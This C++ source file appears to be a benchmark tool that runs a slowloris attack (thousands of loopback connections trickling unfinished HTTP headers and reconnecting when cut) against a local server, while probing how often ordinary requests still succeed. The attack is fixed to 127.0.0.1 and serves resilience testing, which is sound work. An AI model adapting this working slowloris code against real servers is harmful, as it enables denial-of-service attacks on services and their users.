// SPDX-License-Identifier: GPL-3.0-or-later
// A slowloris from many loopback addresses, and a fresh phone measuring what it still gets.
// Built and run by tools/bench/slowloris (see tools/bench/README.md); plain POSIX, no Qt, so
// that other benchmarks (tools/bench/hall) can run it in the background.
//
// Attack: ADDRESSES source addresses 127.0.10.1... (counting on into 127.0.11.x), PER_ADDRESS
// connections from each, every one sending a request line and then one more header line every
// INTERVAL ms (each connection at its own phase), never the empty line that ends the request.
// A connection the server closes is opened again after RECONNECT ms, as slowhttptest does.
// Probe: every PROBE_EVERY ms a new connection from 127.0.200.x (another address each time, so
// that the per-address cap never counts against it) asks for PATH and waits at most
// PROBE_TIMEOUT ms for the whole answer (--probe-every-ms 0: no probe). Sampled every second: the
// server's open descriptors
// (/proc/PID/fd), its VmRSS, the attacker's open connections.
// Only 127.0.0.0/8 is ever reached: the target is always 127.0.0.1.
#include <algorithm>
#include <arpa/inet.h>
#include <atomic>
#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <dirent.h>
#include <fcntl.h>
#include <fstream>
#include <iterator>
#include <mutex>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sstream>
#include <string>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <thread>
#include <unistd.h>
#include <vector>

namespace {

using Clock = std::chrono::steady_clock;

struct Options
{
    int port = 0;
    std::string path = "/";
    int addresses = 70;
    int perAddress = 60;
    int intervalMs = 8000;
    int reconnectMs = 250;
    int durationS = 60;
    int probeEveryMs = 250;
    int probeTimeoutMs = 5000;
    int serverPid = 0;
    std::string timeline; // TSV file, one line per second
};

[[noreturn]] void usage(const char *message)
{
    std::fprintf(stderr,
                 "slowloris: %s\nusage: slowloris --port N --path /CODE/1 [--addresses 70] "
                 "[--per-address 60] [--interval-ms 8000] [--reconnect-ms 250] [--duration-s 60] "
                 "[--probe-every-ms 250] [--probe-timeout-ms 5000] [--server-pid PID] "
                 "[--timeline FILE]\n",
                 message);
    std::exit(2);
}

Options parse(int argc, char **argv)
{
    Options o;
    for (int i = 1; i < argc; ++i) {
        const std::string name = argv[i];
        if (i + 1 >= argc)
            usage(("a value is missing after " + name).c_str());
        const char *value = argv[++i];
        const auto number = [&](int low, int high) {
            char *end = nullptr;
            const long v = std::strtol(value, &end, 10);
            if (!end || *end || v < low || v > high)
                usage((name + " must be a number from " + std::to_string(low) + " to " +
                       std::to_string(high))
                          .c_str());
            return static_cast<int>(v);
        };
        if (name == "--port")
            o.port = number(1, 65535);
        else if (name == "--path")
            o.path = value;
        else if (name == "--addresses")
            o.addresses = number(0, 250 * 50);
        else if (name == "--per-address")
            o.perAddress = number(1, 10000);
        else if (name == "--interval-ms")
            o.intervalMs = number(10, 600000);
        else if (name == "--reconnect-ms")
            o.reconnectMs = number(0, 600000);
        else if (name == "--duration-s")
            o.durationS = number(1, 3600);
        else if (name == "--probe-every-ms")
            o.probeEveryMs = number(0, 600000); // 0: no probing (the attack alone)
        else if (name == "--probe-timeout-ms")
            o.probeTimeoutMs = number(10, 600000);
        else if (name == "--server-pid")
            o.serverPid = number(1, 1 << 30);
        else if (name == "--timeline")
            o.timeline = value;
        else
            usage(("unknown option " + name).c_str());
    }
    if (o.port == 0)
        usage("--port is required");
    if (o.path.empty() || o.path[0] != '/')
        usage("--path must start with /");
    return o;
}

sockaddr_in loopback(int port, in_addr_t hostOrder)
{
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(static_cast<std::uint16_t>(port));
    a.sin_addr.s_addr = htonl(hostOrder);
    return a;
}

// 127.0.10.1 upward for the attack: 250 hosts per /24, then the next /24.
in_addr_t attackAddress(int index)
{
    return (127u << 24) | (static_cast<in_addr_t>(10 + index / 250) << 8) |
           static_cast<in_addr_t>(1 + index % 250);
}

// --- the attack ---------------------------------------------------------------------------------

struct Slow
{
    in_addr_t source = 0;
    int fd = -1;
    bool connecting = false;
    Clock::time_point nextLine;  // when to send the next header line
    Clock::time_point reconnect; // when to open again, once closed
    int lines = 0;
};

class Attack
{
public:
    explicit Attack(const Options &o) : m_o(o)
    {
        m_epoll = ::epoll_create1(EPOLL_CLOEXEC);
        const int total = o.addresses * o.perAddress;
        m_slow.resize(static_cast<size_t>(total));
        const Clock::time_point now = Clock::now();
        for (int i = 0; i < total; ++i) {
            Slow &s = m_slow[static_cast<size_t>(i)];
            s.source = attackAddress(i / o.perAddress);
            // Spread the first connections over a second, and the lines over the interval.
            s.reconnect = now + std::chrono::microseconds(1000000LL * i / std::max(1, total));
        }
    }
    ~Attack()
    {
        for (Slow &s : m_slow)
            if (s.fd >= 0)
                ::close(s.fd);
        ::close(m_epoll);
    }

    void run(const std::atomic<bool> &stop)
    {
        std::vector<epoll_event> events(1024);
        while (!stop.load()) {
            const Clock::time_point now = Clock::now();
            for (std::size_t i = 0; i < m_slow.size(); ++i) {
                Slow &s = m_slow[i];
                if (s.fd < 0 && now >= s.reconnect)
                    open(s, i);
                else if (s.fd >= 0 && !s.connecting && now >= s.nextLine)
                    sendLine(s, i);
            }
            const int n = ::epoll_wait(m_epoll, events.data(), static_cast<int>(events.size()), 20);
            for (int k = 0; k < n; ++k) {
                const auto i = static_cast<std::size_t>(events[static_cast<size_t>(k)].data.u64);
                Slow &s = m_slow[i];
                if (s.fd < 0)
                    continue;
                const std::uint32_t what = events[static_cast<size_t>(k)].events;
                if (s.connecting && (what & EPOLLOUT) && !(what & (EPOLLERR | EPOLLHUP))) {
                    int error = 0;
                    socklen_t length = sizeof error;
                    ::getsockopt(s.fd, SOL_SOCKET, SO_ERROR, &error, &length);
                    if (error == 0) {
                        s.connecting = false;
                        epoll_event in{};
                        in.events = EPOLLIN | EPOLLRDHUP;
                        in.data.u64 = i;
                        ::epoll_ctl(m_epoll, EPOLL_CTL_MOD, s.fd, &in);
                        sendBegin(s, i);
                        continue;
                    }
                }
                if (what & (EPOLLIN | EPOLLRDHUP | EPOLLERR | EPOLLHUP)) {
                    char buffer[4096];
                    const ssize_t got = ::recv(s.fd, buffer, sizeof buffer, MSG_DONTWAIT);
                    if (got <= 0 && !(got < 0 && errno == EAGAIN))
                        closed(s);
                }
            }
        }
    }

    int open() const { return m_open.load(); }
    long connects() const { return m_connects.load(); }
    long cuts() const { return m_cuts.load(); }
    long failures() const { return m_failures.load(); }

private:
    void open(Slow &s, std::size_t index)
    {
        s.fd = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
        if (s.fd < 0) {
            s.reconnect = Clock::now() + std::chrono::milliseconds(1000);
            ++m_failures;
            return;
        }
        const sockaddr_in source = loopback(0, s.source);
        const sockaddr_in target = loopback(m_o.port, INADDR_LOOPBACK);
        if (::bind(s.fd, reinterpret_cast<const sockaddr *>(&source), sizeof source) != 0 ||
            (::connect(s.fd, reinterpret_cast<const sockaddr *>(&target), sizeof target) != 0 &&
             errno != EINPROGRESS)) {
            ::close(s.fd);
            s.fd = -1;
            s.reconnect = Clock::now() + std::chrono::milliseconds(1000);
            ++m_failures;
            return;
        }
        s.connecting = true;
        epoll_event out{};
        out.events = EPOLLOUT | EPOLLIN | EPOLLRDHUP;
        out.data.u64 = index;
        ::epoll_ctl(m_epoll, EPOLL_CTL_ADD, s.fd, &out);
        ++m_open;
        ++m_connects;
    }

    void sendBegin(Slow &s, std::size_t index)
    {
        const std::string begin = "GET " + m_o.path +
                                  " HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: Mozilla/5.0 "
                                  "(Linux; Android 9) slowloris\r\n";
        ::send(s.fd, begin.data(), begin.size(), MSG_NOSIGNAL | MSG_DONTWAIT);
        s.lines = 0;
        // Each connection at its own phase of the interval.
        const auto phase = std::chrono::milliseconds((static_cast<long long>(index) * 7919) %
                                                     std::max(1, m_o.intervalMs));
        s.nextLine = Clock::now() + phase;
    }

    void sendLine(Slow &s, std::size_t)
    {
        const std::string line = "X-Trickle-" + std::to_string(s.lines++) + ": a\r\n";
        ::send(s.fd, line.data(), line.size(), MSG_NOSIGNAL | MSG_DONTWAIT);
        s.nextLine = Clock::now() + std::chrono::milliseconds(m_o.intervalMs);
    }

    void closed(Slow &s)
    {
        ::epoll_ctl(m_epoll, EPOLL_CTL_DEL, s.fd, nullptr);
        ::close(s.fd);
        s.fd = -1;
        s.connecting = false;
        s.reconnect = Clock::now() + std::chrono::milliseconds(m_o.reconnectMs);
        --m_open;
        ++m_cuts;
    }

    const Options &m_o;
    int m_epoll = -1;
    std::vector<Slow> m_slow;
    std::atomic<int> m_open{0};
    std::atomic<long> m_connects{0};
    std::atomic<long> m_cuts{0};
    std::atomic<long> m_failures{0};
};

// --- the fresh phone ------------------------------------------------------------------------

struct Probe
{
    double seconds = 0; // time to the whole answer, or the timeout
    bool ok = false;    // 200 with the whole body
};

// Waits for `events` on fd until the deadline; false when the time is up.
bool waitFor(int fd, short events, Clock::time_point deadline)
{
    for (;;) {
        const auto left =
            std::chrono::duration_cast<std::chrono::milliseconds>(deadline - Clock::now()).count();
        if (left <= 0)
            return false;
        pollfd p{fd, events, 0};
        const int n = ::poll(&p, 1, static_cast<int>(left));
        if (n > 0)
            return true;
        if (n < 0 && errno != EINTR)
            return false;
    }
}

Probe probe(const Options &o, int index)
{
    const Clock::time_point start = Clock::now();
    const Clock::time_point deadline = start + std::chrono::milliseconds(o.probeTimeoutMs);
    Probe result;
    result.seconds = o.probeTimeoutMs / 1000.0;
    const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd < 0)
        return result;
    const sockaddr_in source =
        loopback(0, (127u << 24) | (200u << 8) | static_cast<in_addr_t>(1 + index % 250));
    const sockaddr_in target = loopback(o.port, INADDR_LOOPBACK);
    std::string received;
    bool connected =
        ::bind(fd, reinterpret_cast<const sockaddr *>(&source), sizeof source) == 0 &&
        (::connect(fd, reinterpret_cast<const sockaddr *>(&target), sizeof target) == 0 ||
         (errno == EINPROGRESS && waitFor(fd, POLLOUT, deadline)));
    if (connected) {
        int error = 0;
        socklen_t length = sizeof error;
        ::getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &length);
        connected = error == 0;
    }
    const std::string request = "GET " + o.path +
                                " HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: fresh phone\r\n"
                                "Connection: close\r\n\r\n";
    if (connected && ::send(fd, request.data(), request.size(), MSG_NOSIGNAL) ==
                         static_cast<ssize_t>(request.size())) {
        std::size_t expected = std::string::npos;
        while (waitFor(fd, POLLIN, deadline)) {
            char buffer[65536];
            const ssize_t got = ::recv(fd, buffer, sizeof buffer, 0);
            if (got <= 0)
                break;
            received.append(buffer, static_cast<std::size_t>(got));
            const std::size_t end = received.find("\r\n\r\n");
            if (end != std::string::npos && expected == std::string::npos) {
                const std::size_t at = received.find("\r\nContent-Length: ");
                expected = at != std::string::npos && at < end
                               ? end + 4 + std::strtoul(received.c_str() + at + 18, nullptr, 10)
                               : std::string::npos;
            }
            if (expected != std::string::npos && received.size() >= expected) {
                result.ok = received.rfind("HTTP/1.1 200 ", 0) == 0;
                result.seconds = std::chrono::duration<double>(Clock::now() - start).count();
                break;
            }
        }
    }
    ::close(fd);
    return result;
}

// --- sampling -------------------------------------------------------------------------------

int countDescriptors(int pid)
{
    const std::string dir = "/proc/" + std::to_string(pid) + "/fd";
    DIR *d = ::opendir(dir.c_str());
    if (!d)
        return -1;
    int n = 0;
    while (const dirent *entry = ::readdir(d))
        if (entry->d_name[0] != '.')
            ++n;
    ::closedir(d);
    return n;
}

long rssKb(int pid)
{
    std::ifstream status("/proc/" + std::to_string(pid) + "/status");
    std::string line;
    while (std::getline(status, line))
        if (line.rfind("VmRSS:", 0) == 0)
            return std::strtol(line.c_str() + 6, nullptr, 10);
    return -1;
}

// The server's CPU time so far (user + system), in seconds.
double cpuSeconds(int pid)
{
    std::ifstream stat("/proc/" + std::to_string(pid) + "/stat");
    std::string text((std::istreambuf_iterator<char>(stat)), std::istreambuf_iterator<char>());
    const std::size_t close = text.rfind(')'); // the command name may hold spaces
    if (close == std::string::npos)
        return -1;
    // From the state (field 3) on: utime and stime are fields 14 and 15.
    std::istringstream fields(text.substr(close + 2));
    std::vector<std::string> words{std::istream_iterator<std::string>(fields),
                                   std::istream_iterator<std::string>()};
    if (words.size() < 13)
        return -1;
    return static_cast<double>(std::stoll(words[11]) + std::stoll(words[12])) /
           static_cast<double>(::sysconf(_SC_CLK_TCK));
}

double percentile(std::vector<double> values, double p)
{
    if (values.empty())
        return 0;
    std::sort(values.begin(), values.end());
    const auto rank = static_cast<std::size_t>(p * static_cast<double>(values.size() - 1) + 0.5);
    return values[std::min(rank, values.size() - 1)];
}

} // namespace

int main(int argc, char **argv)
{
    const Options o = parse(argc, argv);
    std::atomic<bool> stop{false};
    Attack attack(o);
    std::thread attacker([&] { attack.run(stop); });

    std::mutex probesMutex;
    std::vector<Probe> probes;
    std::thread phone([&] {
        int index = 0;
        Clock::time_point next = Clock::now() + std::chrono::seconds(2); // once the attack is on
        while (o.probeEveryMs > 0 && !stop.load()) {
            std::this_thread::sleep_until(next);
            if (stop.load())
                break;
            next += std::chrono::milliseconds(o.probeEveryMs);
            const Probe p = probe(o, index++);
            const std::lock_guard lock(probesMutex);
            probes.push_back(p);
        }
    });

    std::FILE *timeline = o.timeline.empty() ? nullptr : std::fopen(o.timeline.c_str(), "w");
    if (timeline)
        std::fprintf(timeline, "second\tserver_fds\tserver_rss_kb\tserver_cpu_pct\tattack_open\t"
                               "attack_cuts\tprobes\tprobes_ok\n");
    std::vector<int> fds;
    std::printf("%6s %10s %8s %8s %11s %11s %11s\n", "second", "server fds", "rss MB", "cpu %",
                "attack open", "attack cuts", "probes ok");
    const Clock::time_point start = Clock::now();
    const double cpuAtStart = o.serverPid ? cpuSeconds(o.serverPid) : -1;
    double cpuBefore = cpuAtStart;
    for (int second = 1; second <= o.durationS; ++second) {
        std::this_thread::sleep_until(start + std::chrono::seconds(second));
        const int descriptors = o.serverPid ? countDescriptors(o.serverPid) : -1;
        const long rss = o.serverPid ? rssKb(o.serverPid) : -1;
        const double cpu = o.serverPid ? cpuSeconds(o.serverPid) : -1;
        const double cpuPercent = cpu >= 0 && cpuBefore >= 0 ? 100 * (cpu - cpuBefore) : -1;
        cpuBefore = cpu;
        if (descriptors >= 0)
            fds.push_back(descriptors);
        std::size_t total = 0, ok = 0;
        {
            const std::lock_guard lock(probesMutex);
            total = probes.size();
            ok = static_cast<std::size_t>(
                std::count_if(probes.begin(), probes.end(), [](const Probe &p) { return p.ok; }));
        }
        if (timeline)
            std::fprintf(timeline, "%d\t%d\t%ld\t%.0f\t%d\t%ld\t%zu\t%zu\n", second, descriptors,
                         rss, cpuPercent, attack.open(), attack.cuts(), total, ok);
        if (second % 5 == 0 || second == 1)
            std::printf("%6d %10d %8.1f %8.0f %11d %11ld %5zu/%-5zu\n", second, descriptors,
                        rss / 1024.0, cpuPercent, attack.open(), attack.cuts(), ok, total);
        std::fflush(stdout);
    }
    stop = true;
    phone.join();
    attacker.join();
    if (timeline)
        std::fclose(timeline);

    std::vector<double> all, good;
    for (const Probe &p : probes) {
        all.push_back(p.seconds * 1000);
        if (p.ok)
            good.push_back(p.seconds * 1000);
    }
    const double rate = probes.empty() ? 0
                                       : 100.0 * static_cast<double>(good.size()) /
                                             static_cast<double>(probes.size());
    std::printf("\nattack: %d addresses x %d connections, a header line every %d ms, reconnect "
                "after %d ms: %ld connects, %ld closed by the server, %ld failed to open\n",
                o.addresses, o.perAddress, o.intervalMs, o.reconnectMs, attack.connects(),
                attack.cuts(), attack.failures());
    std::printf("fresh phone: %zu of %zu fetches of %s succeeded (%.1f%%), timeout %d ms\n",
                good.size(), probes.size(), o.path.c_str(), rate, o.probeTimeoutMs);
    std::printf("latency, every fetch (a failure counts as the timeout): p50 %.1f ms, p99 %.1f "
                "ms, max %.1f ms\n",
                percentile(all, 0.5), percentile(all, 0.99), percentile(all, 1.0));
    if (!good.empty())
        std::printf("latency, successful fetches: p50 %.1f ms, p99 %.1f ms, max %.1f ms\n",
                    percentile(good, 0.5), percentile(good, 0.99), percentile(good, 1.0));
    if (!fds.empty())
        std::printf("server descriptors: min %.0f, median %.0f, max %.0f, at the end %d\n",
                    percentile(std::vector<double>(fds.begin(), fds.end()), 0),
                    percentile(std::vector<double>(fds.begin(), fds.end()), 0.5),
                    percentile(std::vector<double>(fds.begin(), fds.end()), 1.0), fds.back());
    const double cpuAtEnd = o.serverPid ? cpuSeconds(o.serverPid) : -1;
    if (cpuAtStart >= 0 && cpuAtEnd >= 0)
        std::printf("server CPU: %.1f s over %d s (%.0f%% of one core)\n", cpuAtEnd - cpuAtStart,
                    o.durationS, 100 * (cpuAtEnd - cpuAtStart) / o.durationS);
    std::printf("RESULT\tprobes=%zu\tok=%zu\tsuccess_pct=%.1f\tp50_ms=%.1f\tp99_ms=%.1f\t"
                "fds_median=%.0f\tfds_max=%.0f\n",
                probes.size(), good.size(), rate, percentile(all, 0.5), percentile(all, 0.99),
                fds.empty() ? -1 : percentile(std::vector<double>(fds.begin(), fds.end()), 0.5),
                fds.empty() ? -1 : percentile(std::vector<double>(fds.begin(), fds.end()), 1.0));
    return 0;
}
